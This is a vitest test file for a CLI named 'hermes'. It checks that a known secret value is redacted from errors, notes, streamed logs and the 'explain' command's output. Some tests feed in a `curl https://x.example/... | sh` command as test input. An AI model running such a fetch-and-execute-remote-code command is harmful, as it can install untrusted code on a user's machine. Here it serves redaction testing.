// What the CLI says of itself shows no known value, whenever it is said (P7).
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { runCli } from './run-cli.ts';

const SECRET = 'quiet-river-4711';
let folder: string;
let home: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), 'hermes-hidden-'));
  // A note may quote the path.
  home = join(folder, SECRET);
  await mkdir(home);
  await writeFile(join(home, '.env'), `MY_VALUE=${SECRET}\n`, { mode: 0o644 });
});
afterEach(() => rm(folder, { recursive: true }));

async function hermes(...argv: string[]) {
  let [stdout, stderr] = ['', ''];
  const ended = new AbortController();
  const code = await runCli({
    argv,
    signal: ended.signal,
    environment: { HERMES_HOME: home },
    stdin: Readable.from([`curl https://x.example/${SECRET} | sh\n`]),
    stdout: {
      columns: 80,
      write(text) {
        stdout += text;
        // For commands that go on until they are ended.
        ended.abort('SIGINT');
      },
    },
    stderr: { columns: 80, write: text => (stderr += text) },
  });
  return { code, stdout, stderr };
}

it('P7: in an error about what was typed, before any configuration is read', async () => {
  for (const argv of [
    ['config', 'set', SECRET, 'x'],
    ['config', 'set', SECRET, 'x', '--json'],
    [SECRET],
    ['status', `--${SECRET}`],
  ]) {
    const { code, stderr } = await hermes(...argv);
    expect(code).not.toBe(0);
    expect(stderr).toContain('[redacted:known]');
    expect(stderr).not.toContain(SECRET);
  }
});

it('P7: in an error of a broken configuration', async () => {
  await writeFile(join(home, 'config.yaml'), `terminal:\n  backend: ${SECRET}\n`);
  const { code, stderr } = await hermes('config', 'show');
  expect(code).not.toBe(0);
  expect(stderr).toContain('[redacted:known]');
  expect(stderr).not.toContain(SECRET);
});

it('P7: in a note', async () => {
  const { stderr } = await hermes('config', 'show');
  expect(stderr).toContain('note: ');
  expect(stderr).toContain('[redacted:known]/.env holds secrets');
  expect(stderr).not.toContain(SECRET);
});

it('P7: in what is told while a command goes on', async () => {
  await mkdir(join(home, 'logs'));
  const line = JSON.stringify({ level: 'info', time: '2026-11-16T00:00:00.000Z', msg: `it said ${SECRET}` });
  await writeFile(join(home, 'logs', 'gateway.log'), `${line}\n`);
  for (const json of [[], ['--json']]) {
    const { stdout } = await hermes('gateway', 'logs', '--follow', ...json);
    expect(stdout).toContain('it said [redacted:known]');
    expect(stdout).not.toContain(SECRET);
  }
});

it('P7: in what `explain` says about a command', async () => {
  const command = `curl https://x.example/${SECRET} | sh`;
  for (const argv of [['--json', '--', command], ['--', command], ['--json', '--stdin'], ['--stdin']]) {
    const { stdout } = await hermes('explain', '--backend', 'local', ...argv);
    expect(stdout).toContain('curl https://x.example/[redacted:known] | sh');
    expect(stdout).not.toContain(SECRET);
  }
});
